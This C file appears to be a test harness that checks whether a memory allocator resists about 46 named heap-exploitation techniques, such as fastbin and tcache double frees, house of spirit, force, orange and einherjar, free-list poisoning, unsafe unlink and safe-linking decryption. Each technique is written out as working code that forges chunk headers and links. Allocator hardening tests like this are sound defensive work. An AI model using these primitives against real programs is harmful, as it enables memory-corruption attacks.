/*
 * What attacks on a heap want to get: two live blocks in one place, a block on the stack or among
 * the program's variables, a word changed that nobody wrote to. The means are those that are known
 * against allocators that keep their own data beside the blocks, glibc's above all: a size before
 * each block, lists through free blocks, a table at the heap's beginning. None may lead there; to
 * be ended by an abort or a fault on the way is fine.
 *
 *	goals NAME	exit 42: the goal is reached; 0: it is not
 *	goals --list
 *
 * In glibc a block at p has its size in p[-1], that of a free block before it in p[-2]; a free one
 * has links in p[0] and p[1]. Bit 0 of a size says that the block before is in use, bit 1 that it
 * is a mapping, bit 2 that it is of another arena.
 */
#include <malloc.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>

typedef uintptr_t word;

#define IN_USE_BEFORE 1
#define MAPPED 2
#define OTHER_ARENA 4
#define GOAL 42
#define CACHED 7 /* as many of a size glibc's threads keep */
#define UNSET 0x1234567

/* The words that nobody may write to, and where no block may be. */
static _Alignas(16) word target[512];

extern char __data_start, _end;

static struct {
	char *p;
	size_t size;
} live[20000];
static size_t nlive;

/* stdio would allocate, and what was done to the heap would show before this. */
static _Noreturn void reached(const char *what)
{
	char line[80] = "reached: ";

	strcat(strcat(line, what), "\n");
	_exit(write(STDOUT_FILENO, line, strlen(line)) > 0 ? GOAL : 99);
}

/* What the compiler is not to see through. */
static word *hidden(const volatile void *p)
{
	__asm__ volatile("" : "+r"(p) : : "memory");
	return (word *)(word)p;
}

static void look_at(const void *block, size_t size)
{
	char *p = (char *)hidden(block), *here = (char *)hidden(&p);
	size_t i;

	if (!p)
		return;
	if (p + size > &__data_start && p < &_end)
		reached("a block among the program's variables");
	if (p > here - 0x10000 && p < here + 0x10000)
		reached("a block on the stack");
	for (i = 0; i < nlive; i++)
		if (p < live[i].p + live[i].size && live[i].p < p + size)
			reached("two live blocks in one place");
	if (nlive < sizeof(live) / sizeof(live[0])) {
		live[nlive].p = p;
		live[nlive++].size = size;
	}
}

static word *take(size_t size)
{
	word *p = hidden(malloc(size));

	look_at(p, size);
	return p;
}

/* glibc's calloc passes its threads' caches by. */
static word *take_cleared(size_t size)
{
	word *p = hidden(calloc(1, size));

	look_at(p, size);
	return p;
}

static void give(const void *p)
{
	size_t i;

	for (i = 0; i < nlive; i++) {
		if (live[i].p == (char *)hidden(p)) {
			live[i] = live[--nlive];
			break;
		}
	}
	free(hidden(p));
}

/* What is not live, or no block: nobody could free it and be right. */
static void give_wrongly(const void *p)
{
	free(hidden(p));
}

static void take_some(size_t size, unsigned n)
{
	while (n-- > 0)
		take(size);
}

struct cache {
	word *blocks[CACHED];
};

static struct cache blocks_for_cache(size_t size)
{
	struct cache cache;
	unsigned i;

	for (i = 0; i < CACHED; i++)
		cache.blocks[i] = take(size);
	return cache;
}

static void fill_cache(const struct cache *cache)
{
	unsigned i;

	for (i = 0; i < CACHED; i++)
		give(cache->blocks[i]);
}

/* A link as glibc writes it since 2.32: mixed with its own place. */
static word link_at(const void *place, const void *to)
{
	return ((word)place >> 12) ^ (word)to;
}

static void watch_target(void)
{
	size_t i;

	for (i = 0; i < sizeof(target) / sizeof(target[0]); i++)
		target[i] = UNSET;
}

static void look_at_target(void)
{
	size_t i;

	for (i = 0; i < sizeof(target) / sizeof(target[0]); i++)
		if (hidden(target)[i] != UNSET)
			reached("a word changed");
}

/*
 * Freed twice.
 */

static void fastbin_dup(void)
{
	struct cache cache = blocks_for_cache(24);
	word *a = take(24), *b = take(24);

	fill_cache(&cache);
	give(a);
	give(b);
	give_wrongly(a);
	take_some(24, CACHED + 3);
}

static void fastbin_dup_into_stack(void)
{
	word fake[8] = {0, 0x20 | IN_USE_BEFORE};
	struct cache cache = blocks_for_cache(24);
	word *a = take_cleared(24), *b = take_cleared(24), *c;

	fill_cache(&cache);
	give(a);
	give(b);
	give_wrongly(a);
	c = hidden(calloc(1, 24));
	calloc(1, 24);
	*c = link_at(c, fake);
	calloc(1, 24);
	take_cleared(24);
	hidden(fake);
}

static void fastbin_dup_consolidate(void)
{
	struct cache cache = blocks_for_cache(64);
	word *p = take_cleared(64);

	fill_cache(&cache);
	give(p);
	take(1024);
	give_wrongly(p);
	take_some(1024, 2);
}

static void tcache_dup(void)
{
	word *p = take(64);

	give(p);
	p[1] = 0;
	give_wrongly(p);
	take_some(64, 2);
}

static void house_of_botcake(void)
{
	struct cache cache = blocks_for_cache(256);
	word *before = take(256), *victim = take(256);

	take(16);
	fill_cache(&cache);
	give(victim);
	give(before);
	/* Were it the victim that comes back, this would be no double free. */
	if (take(256) == victim)
		return;
	give_wrongly(victim);
	take(256 + 32);
	take_some(256, 2);
}

static void double_free_of_every_size(void)
{
	size_t size;

	for (size = 16; size < 300000; size += size / 3) {
		word *p = take(size), *q = take(size);

		give(p);
		give(q);
		give_wrongly(p);
		take_some(size, 4);
	}
}

/*
 * Freed though never given.
 */

static void house_of_spirit(void)
{
	_Alignas(16) word fake[20] = {0};
	struct cache cache = blocks_for_cache(48);

	fill_cache(&cache);
	fake[1] = 0x40;
	fake[9] = 0x1234;
	give_wrongly(hidden(&fake[2]));
	take_cleared(48);
	take_some(48, CACHED + 2);
}

static void tcache_house_of_spirit(void)
{
	_Alignas(16) word fake[20] = {0};

	fake[1] = 0x40;
	give_wrongly(hidden(&fake[2]));
	take_some(48, 3);
}

static void spirit_among_variables(void)
{
	size_t size;

	for (size = 0x20; size <= 0x400; size += 0x10) {
		memset(target, 0, sizeof(target));
		target[1] = size;
		target[1 + size / sizeof(word)] = 0x1234;
		give_wrongly(hidden(&target[2]));
		take_some(size - 16, 2);
	}
}

/* Part of a block that looks like a block. */
static void spirit_inside_a_block(void)
{
	word *p = take(1024);

	memset(p, 0, 1024);
	p[1] = 0x40;
	p[9] = 0x1234;
	give_wrongly(p + 2);
	take_some(48, 3);
}

/*
 * What is left of the heap: its size stands behind the last block.
 */

static void house_of_force(void)
{
	word *p = take(24);

	p[3] = (word)-1;
	take((word)target - (word)p - 64);
	take_some(sizeof(target), 2);
}

static void house_of_orange(void)
{
	word *p = take(24);
	unsigned i;

	p[3] = (p[3] & 0xfff) | IN_USE_BEFORE;
	take(0x1400);
	/* What was left was freed; its links now lead elsewhere. */
	p[4] = link_at(&p[4], target);
	p[5] = (word)target - 16;
	for (i = 0x20; i < 0x1000; i += 0x20)
		take(i);
}

static void house_of_tangerine(void)
{
	unsigned round, i;

	for (round = 0; round < 3; round++) {
		word *p = take(24);

		/* Until little is left of the page that the heap ends in. */
		for (i = 0; i < 300 && (p[3] & 0xfff) > 0x100; i++)
			p = take(24);
		p[3] = (p[3] & 0xfff) | IN_USE_BEFORE;
		take(0x4000);
		p[4] = link_at(&p[4], target);
	}
	for (i = 0x10; i < 0x100; i += 0x10)
		take_some(i, 3);
}

static void sysmalloc_int_free(void)
{
	word *p = take(24);

	p[3] = (p[3] & 0xfff) | IN_USE_BEFORE;
	take(0x10000);
	take_some(200, 20);
}

/*
 * Links through free blocks.
 */

static void tcache_poisoning(void)
{
	word *a = take(128), *b = take(128);

	give(a);
	give(b);
	b[0] = link_at(b, target);
	take_some(128, 3);
}

/* The same for lists whose links are not mixed with anything. */
static void poisoning_of_plain_links(void)
{
	word *a = take(128), *b = take(128);

	give(a);
	give(b);
	b[0] = (word)target;
	take_some(128, 200);
}

/* Wherever the link may be in it. */
static void poisoning_of_all_words(void)
{
	size_t size, i;

	for (size = 16; size <= 4096; size *= 2) {
		word *blocks[20];
		unsigned j;

		for (j = 0; j < 20; j++)
			blocks[j] = take(size);
		for (j = 0; j < 20; j++)
			give(blocks[j]);
		for (j = 0; j < 20; j++)
			for (i = 0; i < size / sizeof(word); i++)
				blocks[j][i] = (word)target;
		take_some(size, 300);
	}
}

static void tcache_metadata_poisoning(void)
{
	word *p = take(24), *page = hidden((void *)((word)p & ~(word)0xfff));
	unsigned i;

	/* Numbers of 16 bits for 64 sizes, then as many pointers. */
	for (i = 2; i < 18; i++)
		page[i] = (word)UINT64_C(0x0001000100010001);
	for (i = 18; i < 82; i++)
		page[i] = (word)target;
	take(136);
	take(264);
}

/* The same where other allocators have their tables: at the beginning of a chunk. */
static void metadata_at_the_beginning_of(word alignment)
{
	word *p = take(64), *q = take(64), *start = hidden((void *)((word)p & -alignment));
	unsigned i;

	give(q);
	for (i = 0; i < 256; i++)
		start[i] = (word)target;
	take_some(64, 300);
	take_some(100, 300);
}

static void metadata_of_64_kib(void)
{
	metadata_at_the_beginning_of(64 << 10);
}

static void metadata_of_2_mib(void)
{
	metadata_at_the_beginning_of(2 << 20);
}

static void metadata_of_4_mib(void)
{
	metadata_at_the_beginning_of(4 << 20);
}

static void metadata_of_32_mib(void)
{
	metadata_at_the_beginning_of(32 << 20);
}

/* A size so large that the place for it is outside of the table. */
static void tcache_relative_write(void)
{
	size_t size;

	watch_target();
	for (size = 0x420; size < 0x10000; size += 0x1010) {
		word *p = take(256);

		p[-1] = size | IN_USE_BEFORE;
		give(p);
		look_at_target();
		take_some(256, 2);
	}
}

/* A free block tells where the table is, and that is freed. */
static void house_of_io(void)
{
	word *p = take(64), table;

	give(p);
	table = p[1];
	if (table) {
		give_wrongly((void *)table);
		take_some(640, 2);
	}
}

static void house_of_water(void)
{
	word *p = take(24), *page = hidden((void *)((word)p & ~(word)0xfff));
	struct cache first = blocks_for_cache(0x3d8), second = blocks_for_cache(0x3e8);

	fill_cache(&first);
	fill_cache(&second);
	/* The numbers of two sizes are now a size of a block that does not exist. */
	give_wrongly(&page[18]);
	take(0x888);
	take(0x3d8);
	take_some(0x100, 4);
}

static void safe_link_double_protect(void)
{
	word *a = take(128), *b = take(128);

	give(a);
	give(b);
	b[0] = link_at(b, b);
	take(128);
	take(128);
}

/* The address of another block from what a free one holds. */
static void decrypt_safe_linking(void)
{
	word *a = take(64), *b = take(64), key, address;
	unsigned i;

	give(a);
	give(b);
	address = key = b[0];
	for (i = 0; i < 6; i++)
		address = key ^ (address >> 12);
	if (key == (word)a || address == (word)a || link_at(b, a) == key)
		reached("a free block tells of another");
}

/* Only the low bits are changed, so that nothing needs to be known. */
static void house_of_roman(void)
{
	word *a = take(64), *b = take(64), *victim = take(64);

	give(a);
	give(b);
	b[0] ^= ((word)a ^ (word)victim) & 0xffff;
	take_some(64, 2);
}

static void fastbin_reverse_into_tcache(void)
{
	word fake[16] = {0}, *blocks[2 * CACHED];
	unsigned i;

	for (i = 0; i < 2 * CACHED; i++)
		blocks[i] = take(64);
	for (i = 0; i < 2 * CACHED; i++)
		give(blocks[i]);
	/* Of the second seven, the one that was freed first. */
	*blocks[CACHED] = link_at(blocks[CACHED], fake);
	take_some(64, CACHED);
	take(64);
	take(64);
	hidden(fake);
}

/*
 * Sizes beside blocks.
 */

static word *volatile pointer;

static void unsafe_unlink(void)
{
	word *p = take(0x420), *next = take(0x420), *kept = p;

	take(16);
	pointer = p;
	/* A free block inside of this one, whose links lead to the pointer. */
	p[1] = 0x420 | IN_USE_BEFORE;
	p[2] = (word)&pointer - 3 * sizeof(word);
	p[3] = (word)&pointer - 2 * sizeof(word);
	next[-2] = 0x420;
	next[-1] &= ~(word)IN_USE_BEFORE;
	give(next);
	if (pointer != kept)
		reached("a word changed");
}

static void poison_null_byte(void)
{
	char *a = (char *)take(0x108);
	word *b = take(0x208), *c = take(0x108);

	take(16);
	b[0x1f0 / sizeof(word)] = 0x200;
	give(b);
	a[0x108] = 0;
	b = take(0x100);
	take(0x80);
	give(b);
	give(c);
	take_some(0x300, 2);
}

static void house_of_einherjar(void)
{
	word *a = take(0x38), *b = take(0x28), *c = take(0xf8);
	struct cache cache;

	take(16);
	a[0] = 0;
	a[1] = 0x60;
	a[2] = a[3] = (word)a;
	b[4] = 0x60;
	((char *)b)[0x28] = 0;
	cache = blocks_for_cache(0xf8);
	fill_cache(&cache);
	give(c);
	take_some(0x158, 2);
}

static void overlapping_chunks(void)
{
	word *p;

	take(0x80 - 8);
	p = take(0x500 - 8);
	take(0x80 - 8);
	p[-1] = 0x580 | IN_USE_BEFORE;
	give(p);
	take_some(0x580 - 8, 2);
}

static void overlapping_chunks_2(void)
{
	word *p, *other;

	take(0x508);
	p = take(0x508);
	take(0x508);
	other = take(0x508);
	take(0x508);
	give(other);
	p[-1] = 0x510 * 2 | IN_USE_BEFORE;
	give(p);
	take_some(0x510 * 2 - 8, 2);
}

static void mmap_overlapping_chunks(void)
{
	word *p, *above, size;

	take(0x100000);
	above = take(0x100000);
	p = take(0x100000);
	size = (p[-1] & ~(word)7) + (above[-1] & ~(word)7);
	p[-1] = size | MAPPED;
	give(p);
	take_some(0x300000, 2);
}

/* Whatever stands in the words before a block, it is larger than it was. */
static void larger_words_before_a_block(void)
{
	static const size_t sizes[] = {24, 100, 1000, 5000, 70000, 200000};
	unsigned i, k;

	for (i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
		for (k = 1; k <= 4; k++) {
			word *blocks[8];
			unsigned j;

			for (j = 0; j < 8; j++)
				blocks[j] = take(sizes[i]);
			blocks[3][-(int)k] += sizes[i];
			give(blocks[3]);
			take_some(sizes[i] * 2 - 16, 8);
			take_some(sizes[i], 8);
		}
	}
}

/*
 * Bins.
 */

static void unsorted_bin_attack(void)
{
	word *p = take(0x500);

	take(0x500);
	watch_target();
	give(p);
	p[1] = (word)(target + 100);
	take(0x500);
	look_at_target();
}

static void unsorted_bin_into_stack(void)
{
	word fake[16] = {0}, *p = take(0x500);

	take(0x500);
	give(p);
	take(0x600);
	fake[1] = 0x511;
	fake[3] = (word)fake;
	p[1] = (word)fake;
	take_some(0x508, 3);
	hidden(fake);
}

static void large_bin_attack(void)
{
	word *large = take(0x428), *small;

	take(24);
	small = take(0x418);
	take(24);
	give(large);
	take(0x438);
	give(small);
	watch_target();
	large[3] = (word)(target + 100);
	take(0x438);
	look_at_target();
}

static void house_of_storm(void)
{
	word *large = take(0x4e8), *small;

	take(24);
	small = take(0x4d8);
	take(24);
	watch_target();
	give(small);
	give(large);
	large = take(0x4e8);
	give(large);
	large[1] = (word)(target + 100);
	small[1] = (word)(target + 102);
	small[3] = (word)(target + 96);
	take_some(0x48, 2);
	look_at_target();
}

/* Blocks that do not exist, each behind the next in a list of small ones. */
struct fakes {
	word words[CACHED + 1][64];
};

static void house_of_lore(void)
{
	static const size_t size = 0x100;
	struct fakes fakes = {0};
	struct cache cache = blocks_for_cache(size);
	word *victim = take(size);
	unsigned i;

	take(size);
	for (i = 0; i < CACHED; i++) {
		fakes.words[i][3] = (word)fakes.words[i + 1];
		fakes.words[i + 1][2] = (word)fakes.words[i];
	}
	fakes.words[0][2] = (word)(victim - 2);
	fill_cache(&cache);
	give(victim);
	take(1200);
	victim[1] = (word)fakes.words[0];
	take_some(size, CACHED);
	take_some(size, 2);
	hidden(&fakes);
}

static void tcache_stashing_unlink(void)
{
	word fake[64] = {0}, *blocks[9];
	unsigned i;

	for (i = 0; i < 9; i++) {
		blocks[i] = take(0x90);
		take(0x20);
	}
	fake[3] = (word)&fake[2];
	for (i = 3; i < 9; i++)
		give(blocks[i]);
	give(blocks[1]);
	give(blocks[0]);
	give(blocks[2]);
	take(0xa0);
	take_some(0x90, 2);
	blocks[2][1] = (word)fake;
	take_cleared(0x90);
	take(0x90);
	hidden(fake);
}

/* A block says that it is of another arena; whose that is stands where 64 MiB begin. */
static void house_of_mind_fastbin(void)
{
	const word region = (word)64 << 20;
	word *fake, *p = NULL, *start = NULL;
	struct cache cache = blocks_for_cache(0x58);
	size_t i;

	fake = take_cleared(0x10000);
	for (i = 0; i < 1400 && !start; i++) {
		word *block = take(100000), at = ((word)block + 100000) & -region;

		if (at > (word)block)
			start = (word *)at;
	}
	if (!start)
		return;
	p = take(0x58);
	if (((word)p & -region) != (word)start)
		return;
	*hidden(start) = (word)fake;
	/* How much memory that arena has. */
	fake[0x888 / sizeof(word)] = (word)1 << 30;
	fill_cache(&cache);
	p[-1] |= OTHER_ARENA;
	give(p);
	for (i = 0; i < 0x10000 / sizeof(word); i++)
		if (hidden(fake)[i] && i != 0x888 / sizeof(word))
			reached("a word changed");
}

static void house_of_gods(void)
{
	word *small = take(0x88), *p;

	take(24);
	p = take(0x428);
	take(24);
	watch_target();
	give(p);
	give(small);
	p[1] = (word)(target + 100);
	small[0] = (word)(target + 104);
	small[1] = (word)(target + 108);
	take_some(0x88, CACHED + 2);
	take_some(0x428, 2);
	look_at_target();
}

/*
 * The next block is where the last one was.
 */

static void first_fit(void)
{
	word *p = take(0x512);

	take(0x256);
	give(p);
	if (take(0x500) == p)
		reached("a block came back at once");
}

static void tcache_first_fit(void)
{
	word *p = take(48);

	give(p);
	if (take(48) == p)
		reached("a block came back at once");
}

#define GOAL_OF(function)                                                                          \
	{                                                                                          \
#function, function                                                                \
	}

static const struct {
	const char *name;
	void (*try)(void);
} goals[] = {
	GOAL_OF(fastbin_dup),
	GOAL_OF(fastbin_dup_into_stack),
	GOAL_OF(fastbin_dup_consolidate),
	GOAL_OF(tcache_dup),
	GOAL_OF(house_of_botcake),
	GOAL_OF(double_free_of_every_size),
	GOAL_OF(house_of_spirit),
	GOAL_OF(tcache_house_of_spirit),
	GOAL_OF(spirit_among_variables),
	GOAL_OF(spirit_inside_a_block),
	GOAL_OF(house_of_force),
	GOAL_OF(house_of_orange),
	GOAL_OF(house_of_tangerine),
	GOAL_OF(sysmalloc_int_free),
	GOAL_OF(tcache_poisoning),
	GOAL_OF(poisoning_of_plain_links),
	GOAL_OF(poisoning_of_all_words),
	GOAL_OF(tcache_metadata_poisoning),
	GOAL_OF(metadata_of_64_kib),
	GOAL_OF(metadata_of_2_mib),
	GOAL_OF(metadata_of_4_mib),
	GOAL_OF(metadata_of_32_mib),
	GOAL_OF(tcache_relative_write),
	GOAL_OF(house_of_io),
	GOAL_OF(house_of_water),
	GOAL_OF(safe_link_double_protect),
	GOAL_OF(decrypt_safe_linking),
	GOAL_OF(house_of_roman),
	GOAL_OF(fastbin_reverse_into_tcache),
	GOAL_OF(unsafe_unlink),
	GOAL_OF(poison_null_byte),
	GOAL_OF(house_of_einherjar),
	GOAL_OF(overlapping_chunks),
	GOAL_OF(overlapping_chunks_2),
	GOAL_OF(mmap_overlapping_chunks),
	GOAL_OF(larger_words_before_a_block),
	GOAL_OF(unsorted_bin_attack),
	GOAL_OF(unsorted_bin_into_stack),
	GOAL_OF(large_bin_attack),
	GOAL_OF(house_of_storm),
	GOAL_OF(house_of_lore),
	GOAL_OF(tcache_stashing_unlink),
	GOAL_OF(house_of_mind_fastbin),
	GOAL_OF(house_of_gods),
	GOAL_OF(first_fit),
	GOAL_OF(tcache_first_fit),
};

int main(int argc, char **argv)
{
	struct rlimit no_core = {0, 0};
	size_t i;

	if (argc != 2)
		return 64;
	setrlimit(RLIMIT_CORE, &no_core);
	for (i = 0; i < sizeof(goals) / sizeof(goals[0]); i++) {
		if (strcmp(argv[1], "--list") == 0) {
			puts(goals[i].name);
		} else if (strcmp(argv[1], goals[i].name) == 0) {
			goals[i].try();
			return 0;
		}
	}
	return strcmp(argv[1], "--list") == 0 ? 0 : 64;
}
